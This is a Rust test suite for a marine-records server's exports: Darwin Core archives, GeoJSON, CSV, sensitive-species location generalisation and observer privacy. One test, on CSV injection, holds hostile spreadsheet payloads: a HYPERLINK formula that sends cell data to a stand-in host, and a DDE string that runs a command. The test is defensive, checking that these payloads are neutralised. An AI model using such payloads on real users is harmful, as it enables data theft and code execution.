//! Exports end to end: records sent to the real server, exported over HTTP and by the
//! binary, and read back by general-purpose readers (python-dwca-reader 0.17.1; Python's
//! json + shapely 2.x), with sensitive species generalised in public exports.

use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::helpers::{TestApp, plain_jpeg, spawn_app, submission};
use crate::python::{run_script, terms_extract};

// The audit's cases, one file each under `exports/`.
mod higher_taxa;
mod history;
mod life_stage;
mod merged;
mod slow_client;
mod walks;

const DWC: &str = "http://rs.tdwg.org/dwc/terms/";
const CATSHARK: &str = "1b2c3d4e-0000-4000-8000-000000000001";
const ANGELSHARK: &str = "1b2c3d4e-0000-4000-8000-000000000002";
const UNKNOWN: &str = "1b2c3d4e-0000-4000-8000-000000000003";

/// A catshark with a photo and a length and an angelshark (a sensitive species in the
/// demo checklist: 0.1°), both confirmed by a reviewer, and a guess the checklist does
/// not know, awaiting review.
async fn app_with_records() -> TestApp {
    let app = spawn_app().await;
    assert_eq!(app.submit(&submission(CATSHARK), &[plain_jpeg(1)]).await.status, 200);
    let mut angel = submission(ANGELSHARK);
    angel["species_guess"] = json!("Angelshark");
    angel["position"] = json!({"latitude": 52.3467, "longitude": -4.1234, "accuracy_m": 10.0, "source": "device"});
    angel["notes"] = json!("below the lifeboat station");
    assert_eq!(app.submit(&angel, &[plain_jpeg(2)]).await.status, 200);
    let mut unknown = submission(UNKNOWN);
    unknown["species_guess"] = json!("some kind of skate");
    unknown["length"] = Value::Null;
    assert_eq!(app.submit(&unknown, &[]).await.status, 200);
    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
    app.confirm(ANGELSHARK, "Squatina squatina", "species").await;
    app
}

async fn download(app: &TestApp, query: &str, dir: &Path, name: &str) -> std::path::PathBuf {
    let response = app.get(&crate::helpers::export_path(query)).await;
    assert_eq!(response.status(), 200, "{query}");
    let path = dir.join(name);
    std::fs::write(&path, response.bytes().await.unwrap()).unwrap();
    path
}

fn row<'a>(archive: &'a Value, id: &str) -> &'a Value {
    archive["rows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == format!("urn:uuid:{id}"))
        .unwrap_or_else(|| panic!("row {id}"))
}

fn term<'a>(row: &'a Value, name: &str) -> &'a str {
    row["data"][format!("{DWC}{name}")].as_str().unwrap_or_else(|| panic!("term {name} in {row}"))
}

#[tokio::test]
async fn the_archive_reads_back_with_python_dwca_reader_and_uses_only_tdwg_terms() {
    let app = app_with_records().await;
    let dir = tempfile::tempdir().unwrap();
    // The full export of every state: every field as recorded (public ones below).
    let zip = download(&app, "format=dwca&audience=full&state=any", dir.path(), "records.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    // TDWG Darwin Core Text Guide: one core, extensions linked by coreid.
    assert_eq!(archive["core_row_type"], format!("{DWC}Occurrence"));
    assert_eq!(
        archive["extension_row_types"],
        json!([
            format!("{DWC}MeasurementOrFact"),
            format!("{DWC}Identification"),
            format!("{DWC}ResourceRelationship")
        ])
    );
    assert_eq!(archive["unknown_terms"], json!([]), "every term is in the TDWG term list");
    assert_eq!(archive["unknown_row_types"], json!([]), "every row type is a TDWG class");
    assert_eq!(archive["orphaned_extension_rows"]["measurementorfact.txt"], 0);
    assert_eq!(archive["orphaned_extension_rows"]["identification.txt"], 0);
    assert_eq!(archive["rows"].as_array().unwrap().len(), 3, "one row per organism");
    // GBIF metadata profile: packageId, scope="system", system; title, creator, pubDate, abstract, contact.
    let eml = &archive["metadata"];
    let (dataset, version) = package_parts(eml["packageId"].as_str().unwrap());
    assert_eq!((dataset.len(), version.len()), (36, 16), "a UUID and 16 hex digits: {}", eml["packageId"]);
    assert_eq!(eml["scope"], "system");
    assert_eq!(eml["system"], "wrackline");
    for field in ["title", "creator", "pubDate", "abstract", "contact"] {
        assert!(!eml[field].as_str().unwrap().is_empty(), "eml {field}");
    }
    assert!(eml["abstract"].as_str().unwrap().contains("some kind of skate (1)"), "unmatched names are reported");
    // GBIF metadata profile: intellectualRights with a ulink to the licence; CC BY 4.0 by default.
    assert_eq!(eml["licence_url"], "http://creativecommons.org/licenses/by/4.0/legalcode");
    // TDWG Darwin Core occurrenceStatus (tdwg/dwc #546, #699): the methods say which words are used.
    assert!(eml["methods"].as_str().unwrap().contains("notDetected"), "{}", eml["methods"]);

    let catshark = row(&archive, CATSHARK);
    assert_eq!(term(catshark, "scientificName"), "Scyliorhinus canicula");
    assert_eq!(term(catshark, "identificationVerificationStatus"), "confirmed");
    assert_eq!(term(catshark, "taxonRank"), "species");
    assert_eq!(term(catshark, "verbatimIdentification"), "small-spotted catshark");
    assert_eq!(term(catshark, "eventDate"), "2025-06-01T14:10:00+01:00", "ISO 8601 with offset (TDWG eventDate)");
    assert_eq!(term(catshark, "decimalLatitude"), "52.415300");
    assert_eq!(term(catshark, "geodeticDatum"), "EPSG:4326");
    assert_eq!(term(catshark, "recordedBy"), "Test Observer");
    assert_eq!(term(catshark, "vitality"), "dead");
    assert!(
        term(catshark, "associatedMedia").starts_with(&format!("{}/photos/", app.base)),
        "under the public address"
    );
    assert!(term(catshark, "organismID").starts_with("organism-"));
    let lengths: Vec<&Value> = catshark["extensions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["rowtype"] == format!("{DWC}MeasurementOrFact"))
        .collect();
    assert_eq!(lengths.len(), 1);
    let length = &lengths[0]["data"];
    assert_eq!(length[format!("{DWC}measurementType")], "total length");
    assert_eq!(length[format!("{DWC}measurementValue")], "54.0");
    assert_eq!(length[format!("{DWC}measurementUnit")], "cm");
    assert_eq!(length[format!("{DWC}measurementMethod")], "measured");

    let unknown = row(&archive, UNKNOWN);
    assert_eq!(term(unknown, "scientificName"), "");
    assert!(term(unknown, "identificationRemarks").contains("not resolved to a checklist taxon"));
    let unknown_extensions: Vec<&Value> = unknown["extensions"].as_array().unwrap().iter().collect();
    assert_eq!(unknown_extensions.len(), 1, "no length; its one identification");
    assert_eq!(unknown_extensions[0]["rowtype"], format!("{DWC}Identification"));
}

#[tokio::test]
async fn public_exports_generalise_a_sensitive_species_and_say_so() {
    let app = app_with_records().await;
    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca", dir.path(), "public.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    let angel = row(&archive, ANGELSHARK);
    // Chapman 2020 (GBIF): the demo checklist puts the angelshark at 0.1°.
    assert_eq!(term(angel, "scientificName"), "Squatina squatina");
    assert_eq!(term(angel, "decimalLatitude"), "52.3");
    assert_eq!(term(angel, "decimalLongitude"), "-4.1");
    let uncertainty: f64 = term(angel, "coordinateUncertaintyInMeters").parse().unwrap();
    // A 0.1° cell near 52.3° N is about 6.8 km by 11.1 km, its diagonal about 13 km
    // (degree lengths from memory); the recorded 10 m is added to it.
    assert!((12_500.0..13_500.0).contains(&uncertainty), "{uncertainty}");
    assert!(term(angel, "dataGeneralizations").contains("0.1 degree"));
    assert!(term(angel, "informationWithheld").contains("withheld"));
    assert_eq!(term(angel, "associatedMedia"), "", "photos carry EXIF positions");
    assert_eq!(term(angel, "occurrenceRemarks"), "", "remarks can name the place");
    // Not sensitive: as recorded.
    assert_eq!(term(row(&archive, CATSHARK), "dataGeneralizations"), "");
    // GBIF metadata profile: the abstract and methods say what the public gets, and the default.
    let eml = &archive["metadata"];
    let said = format!("{} {}", eml["abstract"], eml["methods"]);
    for words in [
        "Public exports hold confirmed records unless another review state is asked for",
        "Chapman 2020",
        "fail closed",
        "Observers are named in recordedBy only when they agreed",
    ] {
        assert!(said.contains(words), "{words}: {said}");
    }
}

#[tokio::test]
async fn the_full_export_from_the_command_line_keeps_positions_as_recorded() {
    let app = app_with_records().await;
    let out = app.data_dir.parent().unwrap().join("full.zip");
    let output = Command::new(env!("CARGO_BIN_EXE_wrackline"))
        .arg("--data-dir")
        .arg(&app.data_dir)
        .args(["export", "--format", "dwca", "--full", "--state", "any", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let notes = String::from_utf8_lossy(&output.stderr);
    assert!(notes.contains("wrote 3 records") && notes.contains("some kind of skate (1)"), "{notes}");
    let archive = run_script("read_dwca.py", &[&out, &terms_extract()]);
    assert_eq!(
        archive["metadata"]["licence_url"], "http://creativecommons.org/licenses/by/4.0/legalcode",
        "CC BY 4.0 unless the operator says otherwise"
    );
    // The operator's choice, from the environment (GBIF accepts CC0, CC BY and CC BY-NC).
    let cc0 = app.data_dir.parent().unwrap().join("cc0.zip");
    let output = Command::new(env!("CARGO_BIN_EXE_wrackline"))
        .env("WRACKLINE_LICENCE", "cc0")
        .arg("--data-dir")
        .arg(&app.data_dir)
        .args(["export", "--format", "dwca", "--state", "any", "--out"])
        .arg(&cc0)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let archive_cc0 = run_script("read_dwca.py", &[&cc0, &terms_extract()]);
    assert_eq!(archive_cc0["metadata"]["licence_url"], "http://creativecommons.org/publicdomain/zero/1.0/legalcode");
    let angel = row(&archive, ANGELSHARK);
    assert_eq!(term(angel, "decimalLatitude"), "52.346700");
    assert_eq!(term(angel, "coordinateUncertaintyInMeters"), "10");
    assert_eq!(term(angel, "dataGeneralizations"), "");
}

#[tokio::test]
async fn geojson_reads_back_as_points_in_longitude_latitude_order() {
    let app = app_with_records().await;
    let dir = tempfile::tempdir().unwrap();
    let path = download(&app, "format=geojson&state=any", dir.path(), "records.geojson").await;
    let collection = run_script("read_geojson.py", &[&path]);
    assert_eq!(collection["type"], "FeatureCollection");
    let features = collection["features"].as_array().unwrap();
    assert_eq!(features.len(), 3);
    let catshark = features.iter().find(|f| f["id"] == format!("urn:uuid:{CATSHARK}")).unwrap();
    // RFC 7946 §3.1.1: x is longitude, y is latitude (WGS84), read by shapely.
    assert_eq!(catshark["geometry"], "Point");
    assert_eq!(catshark["valid"], true);
    assert!((catshark["x"].as_f64().unwrap() + 4.0829).abs() < 1e-9);
    assert!((catshark["y"].as_f64().unwrap() - 52.4153).abs() < 1e-9);
    // Numbers are JSON numbers (RFC 8259 §6), so Python's json reads them as int and
    // float, as a GIS tool reads them as numbers, and they equal the geometry's.
    let types = &catshark["property_types"];
    assert_eq!(types["decimalLatitude"], "float");
    assert_eq!(types["decimalLongitude"], "float");
    assert_eq!(types["coordinateUncertaintyInMeters"], "int");
    assert_eq!(types["individualCount"], "int");
    assert_eq!(types["scientificName"], "str");
    let properties = &catshark["properties"];
    assert_eq!(properties["decimalLatitude"].as_f64(), catshark["y"].as_f64());
    assert_eq!(properties["decimalLongitude"].as_f64(), catshark["x"].as_f64());
    assert_eq!(properties["coordinateUncertaintyInMeters"], 8);
    let angel = features.iter().find(|f| f["id"] == format!("urn:uuid:{ANGELSHARK}")).unwrap();
    assert_eq!((angel["x"].as_f64().unwrap(), angel["y"].as_f64().unwrap()), (-4.1, 52.3));
    // Awaiting review: generalised whatever it is (it may be any species on the checklist).
    let unknown = features.iter().find(|f| f["id"] == format!("urn:uuid:{UNKNOWN}")).unwrap();
    assert_eq!((unknown["x"].as_f64().unwrap(), unknown["y"].as_f64().unwrap()), (-4.1, 52.4));
}

#[tokio::test]
async fn filters_select_by_taxon_area_date_and_review_state() {
    let app = app_with_records().await;
    let count = |text: String| csv::Reader::from_reader(text.as_bytes()).records().count();
    let get = |query: &'static str| {
        let app = &app;
        async move {
            // The export's own default state (confirmed) unless the query names one.
            let response = app.get(&format!("/api/export?format=csv&{query}")).await;
            assert_eq!(response.status(), 200, "{query}");
            response.text().await.unwrap()
        }
    };
    assert_eq!(count(get("taxon=Squatinidae").await), 1);
    // The angelshark was at 52.3467 N 4.1234 W and is published at 52.3 N 4.1 W (0.1°):
    // a box is tested on where it is published, not where it was.
    assert_eq!(count(get("bbox=52.25,-4.15,52.35,-4.05").await), 1, "around its published place");
    assert_eq!(count(get("bbox=52.34,-4.2,52.35,-4.1").await), 0, "around where it really was");
    assert_eq!(count(get("bbox=52.34,-4.2,52.35,-4.1&audience=full").await), 1, "as recorded, for reviewers");
    assert_eq!(count(get("from=2025-06-02").await), 0);
    assert_eq!(count(get("to=2025-06-01").await), 2, "the whole last day counts");
    assert_eq!(count(get("to=2025-06-01&state=any").await), 3);
    assert_eq!(count(get("").await), 2, "public exports default to confirmed records");
    assert_eq!(count(get("state=confirmed").await), 2);
    assert_eq!(count(get("state=awaiting_review").await), 1);
    for (query, words) in [
        ("format=dwca&taxon=Felidae", "Felidae"),
        ("format=dwca&bbox=53,0,52,1", "SOUTH"),
        ("format=dwca&from=yesterday", "yesterday"),
        ("format=dwca&state=approved", "approved"),
        ("format=shapefile", "shapefile"),
    ] {
        let response = app.get(&crate::helpers::export_path(query)).await;
        assert_eq!(response.status(), 400, "{query}");
        let body: Value = response.json().await.unwrap();
        assert!(body["error"].as_str().unwrap().contains(words), "{query}: {body}");
    }
}

#[tokio::test]
async fn observer_contacts_never_leave_the_server() {
    let app = app_with_records().await;
    let contact = "gwen.secret@example.org";
    {
        let conn = rusqlite::Connection::open(app.data_dir.join("wrackline.sqlite3")).unwrap();
        conn.execute("INSERT INTO people (role, display_name, contact, created_at) VALUES ('observer', 'Test Observer', ?1, '2025-01-01')", [contact]).unwrap();
        conn.execute("UPDATE observations SET observer_id = last_insert_rowid()", []).unwrap();
    }
    for format in ["csv", "geojson", "dwca"] {
        // Even the full export, which names observers, never carries a contact.
        let bytes =
            app.get(&format!("/api/export?format={format}&audience=full&state=any")).await.bytes().await.unwrap();
        let text = if format == "dwca" { unzip_all(&bytes) } else { String::from_utf8(bytes.to_vec()).unwrap() };
        assert!(text.contains("Test Observer"), "{format}: the display name is there");
        assert!(!text.contains(contact), "{format}: the contact is not");
    }
}

/// The dataset UUID and the version of a packageId `<dataset>/<version>`.
fn package_parts(package: &str) -> (String, String) {
    let (dataset, version) = package.split_once('/').unwrap_or_else(|| panic!("packageId {package}"));
    assert!(uuid::Uuid::parse_str(dataset).is_ok(), "{dataset}");
    assert!(version.chars().all(|c| c.is_ascii_hexdigit()), "{version}");
    (dataset.to_owned(), version.to_owned())
}

/// The packageId of an archive's eml.xml, read with python-dwca-reader.
async fn package_of(app: &TestApp, query: &str, dir: &Path, name: &str) -> (String, String) {
    let zip = download(app, query, dir, name).await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    package_parts(archive["metadata"]["packageId"].as_str().unwrap())
}

#[tokio::test]
async fn a_dataset_keeps_its_package_id_and_changes_its_version_only_with_its_data() {
    // EML 2.1.1 packageId (GBIF metadata profile: required): the same dataset exported twice
    // has the same id; a new record changes the version and not the dataset; another filter
    // is another dataset.
    let app = app_with_records().await;
    let dir = tempfile::tempdir().unwrap();
    let first = package_of(&app, "format=dwca&state=any", dir.path(), "a.zip").await;
    let again = package_of(&app, "format=dwca&state=any", dir.path(), "b.zip").await;
    assert_eq!(first, again, "nothing changed, nothing new");
    let mut more = submission("1b2c3d4e-0000-4000-8000-00000000a0a1");
    more["position"]["latitude"] = json!(52.2);
    assert_eq!(app.submit(&more, &[]).await.status, 200);
    let after = package_of(&app, "format=dwca&state=any", dir.path(), "c.zip").await;
    assert_eq!(after.0, first.0, "the same dataset");
    assert_ne!(after.1, first.1, "its data changed, so its version did");
    let other = package_of(&app, "format=dwca&state=any&taxon=Scyliorhinus%20canicula", dir.path(), "d.zip").await;
    assert_ne!(other.0, first.0, "another filter is another dataset");
}

fn unzip_all(bytes: &[u8]) -> String {
    use std::io::Read as _;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut all = String::new();
    for i in 0..archive.len() {
        archive.by_index(i).unwrap().read_to_string(&mut all).unwrap();
    }
    all
}

#[tokio::test]
async fn range_reads_an_exported_archive_back() {
    let app = app_with_records().await;
    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca&state=any", dir.path(), "again.zip").await;
    let output =
        Command::new(env!("CARGO_BIN_EXE_wrackline")).args(["range", "--json", "--from"]).arg(&zip).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["records_read"], 3);
    let taxa: Vec<&str> = report["taxa"].as_array().unwrap().iter().map(|t| t["taxon"].as_str().unwrap()).collect();
    assert_eq!(taxa, ["Scyliorhinus canicula", "Squatina squatina"], "the unmatched record has no scientificName");
}

#[tokio::test]
async fn two_reports_of_one_animal_are_one_occurrence_with_the_interval_and_both_photos() {
    let app = spawn_app().await;
    let (first, second) = ("1b2c3d4e-0000-4000-8000-0000000000a1", "1b2c3d4e-0000-4000-8000-0000000000a2");
    assert_eq!(app.submit(&submission(first), &[plain_jpeg(7)]).await.status, 200);
    let mut later = submission(second);
    later["observed_at"] = json!("2025-06-03T09:00:00+01:00");
    assert_eq!(app.submit(&later, &[plain_jpeg(8)]).await.status, 200);
    {
        // What a reviewer's merge will do (a later issue): both observations, one organism.
        let conn = rusqlite::Connection::open(app.data_dir.join("wrackline.sqlite3")).unwrap();
        conn.execute("UPDATE observations SET organism_id = (SELECT MIN(organism_id) FROM observations)", []).unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca&audience=full", dir.path(), "merged.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    assert_eq!(archive["rows"].as_array().unwrap().len(), 1, "one row per organism after merges");
    let animal = row(&archive, first);
    // ISO 8601 interval `start/end` (TDWG eventDate), in UTC.
    assert_eq!(term(animal, "eventDate"), "2025-06-01T13:10:00Z/2025-06-03T08:00:00Z");
    assert_eq!(term(animal, "associatedMedia").split(" | ").count(), 2, "the photos of both reports");
}

/// Posts a walk from the phone `phone` (typed distance, or a two-fix track when `track` is true).
async fn post_walk(app: &TestApp, phone: &str, id: &str, all_finds: bool, track: bool) {
    let track = if track {
        json!([
            {"latitude": 52.48912, "longitude": -4.05331, "accuracy_m": 5.0, "at": "2026-04-12T09:00:00+01:00"},
            {"latitude": 52.49012, "longitude": -4.05331, "accuracy_m": 5.0, "at": "2026-04-12T09:02:00+01:00"}
        ])
    } else {
        json!([])
    };
    let distance = if track.as_array().unwrap().is_empty() { json!(3200.0) } else { Value::Null };
    let walk = json!({
        "client_id": id, "started_at": "2026-04-12T09:00:00+01:00", "ended_at": "2026-04-12T10:30:00+01:00",
        "stretch": "Borth to Ynyslas", "all_finds_reported": all_finds, "track": track,
        "typed_distance_m": distance, "observer_name": "Test Walker"
    });
    let answer = app.post_walk_as(phone, &walk).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
}

fn extension_rows(event: &Value) -> Vec<&Value> {
    event["extensions"].as_array().unwrap().iter().filter(|e| e["rowtype"] == format!("{DWC}Occurrence")).collect()
}

fn ext_term<'a>(row: &'a Value, name: &str) -> &'a str {
    row["data"][format!("{DWC}{name}")].as_str().unwrap_or_default()
}

#[tokio::test]
async fn walks_export_as_events_with_absences_for_groups_not_found() {
    const EMPTY_WALK: &str = "aaaaaaaa-0000-4000-8000-000000000001";
    const WALK_WITH_CATSHARK: &str = "aaaaaaaa-0000-4000-8000-000000000002";
    const CASUAL_WALK: &str = "aaaaaaaa-0000-4000-8000-000000000003";
    let app = spawn_app().await;
    let phone = app.new_device().await;
    post_walk(&app, &phone, EMPTY_WALK, true, true).await;
    post_walk(&app, &phone, WALK_WITH_CATSHARK, true, false).await;
    post_walk(&app, &phone, CASUAL_WALK, false, false).await;
    let mut on_walk = submission(CATSHARK);
    on_walk["walk_client_id"] = json!(WALK_WITH_CATSHARK);
    assert_eq!(app.submit_as(&phone, &on_walk, &[]).await.status, 200);
    assert_eq!(app.submit(&submission(UNKNOWN), &[]).await.status, 200, "a record made outside any walk");

    let dir = tempfile::tempdir().unwrap();
    let archive = run_script(
        "read_dwca.py",
        &[&download(&app, "format=dwca&state=any", dir.path(), "events.zip").await, &terms_extract()],
    );
    // TDWG Darwin Core Text Guide: sampling-event data have the Event core with
    // Occurrence (and MeasurementOrFact) as extensions.
    assert_eq!(archive["core_row_type"], format!("{DWC}Event"));
    assert_eq!(archive["unknown_terms"], json!([]), "every term is in the TDWG term list");
    assert_eq!(archive["orphaned_extension_rows"]["occurrence.txt"], 0);
    assert_eq!(archive["rows"].as_array().unwrap().len(), 4, "three walks and one incidental record");

    let empty = row(&archive, EMPTY_WALK);
    assert!(term(empty, "samplingProtocol").contains("every shark, ray, skate and egg case found was reported"));
    assert_eq!(term(empty, "sampleSizeUnit"), "kilometres");
    // Two fixes 0.001° of latitude apart near 52.5°N: about 111.3 m (common practice: 1° of latitude ≈ 111.3 km there).
    assert!(
        (term(empty, "sampleSizeValue").parse::<f64>().unwrap() - 0.111).abs() < 0.001,
        "{}",
        term(empty, "sampleSizeValue")
    );
    assert_eq!(term(empty, "eventDate"), "2026-04-12T09:00:00+01:00/2026-04-12T10:30:00+01:00", "ISO 8601 interval");
    assert_eq!(term(empty, "decimalLatitude"), "52.5", "a public start is rounded to 0.1°");
    assert!(term(empty, "informationWithheld").contains("track"));
    let absences = extension_rows(empty);
    let mut groups: Vec<&str> = absences.iter().map(|a| ext_term(a, "scientificName")).collect();
    groups.sort();
    assert_eq!(groups, ["Batoidea", "Selachimorpha"]);
    for absence in &absences {
        // TDWG occurrenceStatus vocabulary (2026): notDetected; Text Guide: individualCount 0.
        assert_eq!((ext_term(absence, "occurrenceStatus"), ext_term(absence, "individualCount")), ("notDetected", "0"));
    }

    let with_catshark = extension_rows(row(&archive, WALK_WITH_CATSHARK));
    let statuses: Vec<(&str, &str)> =
        with_catshark.iter().map(|o| (ext_term(o, "scientificName"), ext_term(o, "occurrenceStatus"))).collect();
    assert_eq!(statuses.len(), 2, "{statuses:?}");
    assert!(statuses.contains(&("Scyliorhinus canicula", "detected")));
    assert!(statuses.contains(&("Batoidea", "notDetected")), "no shark absence where a shark was found");

    assert!(extension_rows(row(&archive, CASUAL_WALK)).is_empty(), "no absences without the every-find promise");
    let incidental =
        archive["rows"].as_array().unwrap().iter().find(|r| r["id"].as_str().unwrap().ends_with("#event")).unwrap();
    assert_eq!(term(incidental, "samplingProtocol"), "incidental record");
}

#[tokio::test]
async fn a_full_export_over_http_is_for_signed_in_reviewers_only() {
    let app = app_with_records().await;
    let anonymous =
        app.client.get(format!("{}/api/export?format=csv&audience=full&state=any", app.base)).send().await.unwrap();
    assert_eq!(anonymous.status(), 403);
    let full = app.get("/api/export?format=csv&audience=full&state=any").await.text().await.unwrap();
    assert!(full.contains("52.346700"), "the sensitive angelshark as recorded:\n{full}");
    let public = app.get("/api/export?format=csv&state=any").await.text().await.unwrap();
    assert!(!public.contains("52.346700"), "the public form stays generalised for everyone");
}

#[tokio::test]
async fn the_public_range_is_made_from_published_places_and_reviewers_see_them_as_recorded() {
    let app = spawn_app().await;
    // The angelshark is "tenthDegree" in the demo checklist (Chapman 2020 category).
    let recorded = [(52.41, -4.09), (52.24, -4.26), (52.13, -4.57)];
    for (i, (lat, lon)) in recorded.iter().enumerate() {
        let id = format!("1b2c3d4e-0000-4000-8000-00000000010{i}");
        let mut angel = submission(&id);
        angel["species_guess"] = json!("angelshark");
        angel["position"] = json!({"latitude": lat, "longitude": lon, "accuracy_m": 10.0, "source": "device"});
        assert_eq!(app.submit(&angel, &[]).await.status, 200);
        app.confirm(&id, "Squatina squatina", "species").await;
    }
    let query = "taxon=Squatina%20squatina";
    let public: Value =
        app.client.get(format!("{}/api/range?{query}", app.base)).send().await.unwrap().json().await.unwrap();
    let figures = &public["taxa"][0]["periods"][0]["figures"];
    assert!(figures["eoo_km2"].as_f64().unwrap() > 0.0, "the figures are public: {figures}");
    // Rounded to 0.1° (Chapman 2020): the hull's corners are the published places.
    let mut corners: Vec<(f64, f64)> = figures["eoo"]["hull"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["lat"].as_f64().unwrap(), c["lon"].as_f64().unwrap()))
        .collect();
    corners.sort_by(|a, b| a.partial_cmp(b).unwrap());
    assert_eq!(corners, [(52.1, -4.6), (52.2, -4.3), (52.4, -4.1)], "{figures}");
    assert!(public["records_used"].as_str().unwrap().contains("public positions"), "{public}");
    let map = app.client.get(format!("{}/api/range/map.svg?{query}", app.base)).send().await.unwrap();
    assert_eq!(map.status(), 200, "the map is drawn from the same published places");
    let reviewer: Value = app.get(&format!("/api/range?{query}")).await.json().await.unwrap();
    let hull = reviewer["taxa"][0]["periods"][0]["figures"]["eoo"]["hull"].as_array().unwrap().clone();
    assert!(hull.iter().any(|c| c["lat"] == 52.41 && c["lon"] == -4.09), "as recorded for reviewers: {hull:?}");
}

#[tokio::test]
async fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_format() {
    let app = spawn_app().await;
    let mut record = submission(CATSHARK);
    record["notes"] = json!("=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
    record["species_guess"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    record["observer_name"] = json!("-2+3");
    assert_eq!(app.submit(&record, &[]).await.status, 200);
    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
    // OWASP "CSV Injection": a cell starting with = + - @ (tab, CR) is a formula; a leading ' makes it text.
    let csv = app.get("/api/export?format=csv&audience=full").await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("occurrenceRemarks"), "'=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
    assert_eq!(cell("verbatimIdentification"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("recordedBy"), "'-2+3");
    assert_eq!(cell("decimalLongitude"), "-4.082900", "a number stays a number");
    let geojson: Value = app.get("/api/export?format=geojson&audience=full").await.json().await.unwrap();
    assert_eq!(
        geojson["features"][0]["properties"]["occurrenceRemarks"],
        cell("occurrenceRemarks"),
        "the same in GeoJSON"
    );
    let archive = unzip_all(&app.get("/api/export?format=dwca&audience=full").await.bytes().await.unwrap());
    assert!(archive.contains("\t'=HYPERLINK(") && !archive.contains("\t=HYPERLINK("), "and in the archive's files");
    assert!(archive.contains("\t'-2+3\t") && archive.contains("\t-4.082900\t"));
}

#[tokio::test]
async fn without_a_state_the_api_the_command_line_and_the_figures_all_use_confirmed_records() {
    // One default everywhere, so a download and a figure made without choosing agree.
    let app = app_with_records().await;
    let confirm = json!({"action": "confirm", "scientific_name": "Scyliorhinus canicula", "taxon_rank": "species"});
    let url = format!("{}/api/review/records/{CATSHARK}/actions", app.base);
    assert_eq!(app.reviewer.sign(app.client.post(url)).json(&confirm).send().await.unwrap().status(), 200);
    let rows = |text: &str| csv::Reader::from_reader(text.as_bytes()).records().count();
    let over_http = app.get("/api/export?format=csv").await.text().await.unwrap();
    // The fixture confirms the catshark and the angelshark; the skate waits for review.
    assert_eq!(rows(&over_http), 2, "the confirmed records only:\n{over_http}");
    assert!(over_http.contains(CATSHARK) && over_http.contains(ANGELSHARK) && !over_http.contains(UNKNOWN));
    let out = app.data_dir.parent().unwrap().join("default.csv");
    let output = Command::new(env!("CARGO_BIN_EXE_wrackline"))
        .arg("--data-dir")
        .arg(&app.data_dir)
        .args(["export", "--format", "csv", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(rows(&std::fs::read_to_string(&out).unwrap()), 2, "the command line agrees");
    let range: Value = app.get("/api/range?taxon=Scyliorhinus%20canicula").await.json().await.unwrap();
    assert_eq!(range["taxa"][0]["periods"][0]["records"], 1, "and so do the figures: {range}");
}
